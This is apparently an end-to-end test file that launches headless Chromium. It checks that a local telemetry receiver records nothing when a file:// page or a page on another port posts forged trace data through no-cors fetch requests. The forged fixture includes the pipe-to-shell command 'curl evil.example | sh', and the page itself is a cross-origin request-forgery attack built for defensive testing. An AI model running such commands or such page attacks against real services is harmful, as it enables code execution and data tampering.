// A web page the user opens, in a real Chromium (Debian's, headless, as the e2e suite runs it):
// a file:// page and a page from another localhost port POST CORS-simple requests (fetch with
// mode "no-cors", a text/plain or form body that holds OTLP/JSON) to the receiver. Browsers send
// these without a preflight; nothing of them may be recorded.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import * as fs from "node:fs";
import * as http from "node:http";
import * as path from "node:path";
import { test } from "node:test";
import { chromium } from "playwright-core";
import { tempDir } from "../helpers/tempDir";
import { newUser, sessions, sessionSpans, startCollect, tracesBody } from "./receiverHarness";

const CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync"];

/** Holds the e2e lock (one Chromium at a time on this machine) until the returned function is called. */
async function e2eLock(): Promise<() => void> {
  const holder = spawn("flock", ["/tmp/aat-e2e.lock", "-c", "echo locked; exec cat"], { stdio: ["pipe", "pipe", "inherit"] });
  await new Promise<void>((resolve, reject) => {
    holder.stdout.once("data", () => resolve());
    holder.once("error", reject);
  });
  return () => holder.stdin.end();
}

function attackPage(receivers: string[]): string {
  const body = tracesBody("web-page", sessionSpans("0af7651916cd43dd8448eb211c80319c", { agent: "web-page", command: "curl evil.example | sh", approver: "alice" }));
  const bodyB = body.replaceAll("0af7651916cd43dd8448eb211c80319c", "1af7651916cd43dd8448eb211c80319c");
  return `<!doctype html><meta charset="utf-8"><title>cat pictures</title><script>
  (async () => {
    const sends = ${JSON.stringify(receivers.map((r) => r + "/v1/traces"))}.flatMap((url) => [
      fetch(url, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain;charset=json" }, body: ${JSON.stringify(body)} }),
      fetch(url, { method: "POST", mode: "no-cors", headers: { "content-type": "application/x-www-form-urlencoded;x=json" }, body: ${JSON.stringify(bodyB)} }),
    ]);
    for (const s of sends) await s.catch(() => undefined);
    document.title = "sent";
  })();
  </script>`;
}

test("in Chromium, a file:// page and a page on another localhost port POSTing CORS-simple requests to the receiver record nothing, token or not", async (t) => {
  const u = newUser(t);
  const c = await startCollect(t, u);
  // The same without a token: what stops a page is not a secret it lacks.
  const open = newUser(t);
  const o = await startCollect(t, open, ["--no-token"]).catch(() => undefined);
  const html = attackPage([c.url, ...(o ? [o.url] : [])]);
  const file = path.join(tempDir(t), "cats.html");
  fs.writeFileSync(file, html);
  const site = http.createServer((_req, res) => res.writeHead(200, { "content-type": "text/html" }).end(html));
  await new Promise<void>((r) => site.listen(0, "127.0.0.1", r));
  t.after(() => new Promise<void>((r) => site.close(() => r())));
  const sitePort = (site.address() as { port: number }).port;

  const release = await e2eLock();
  try {
    const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: CHROMIUM_ARGS });
    try {
      for (const url of [`file://${file}`, `http://localhost:${sitePort}/`]) {
        const page = await browser.newPage();
        await page.goto(url);
        await page.waitForFunction(() => document.title === "sent", undefined, { timeout: 20_000 });
        await page.close();
      }
    } finally {
      await browser.close();
    }
  } finally {
    release();
  }
  for (const [who, rx] of [[u, c], [open, o]] as const) {
    if (!rx) continue;
    const stopped = await rx.stop();
    // The four requests reached the receiver (so this test can fail) and were refused.
    const refused = stopped.out.match(/refused a request/g) ?? [];
    const received = /(\d+) spans and \d+ log records received/.exec(stopped.out);
    assert.ok(refused.length >= 4 || Number(received?.[1] ?? 0) > 0, `the page's requests arrived:\n${stopped.out}`);
    assert.deepEqual((await sessions(who)).map((s) => s.agent_id), [], `nothing was recorded:\n${stopped.out}`);
  }
  assert.ok(o, "collect --no-token runs");
});
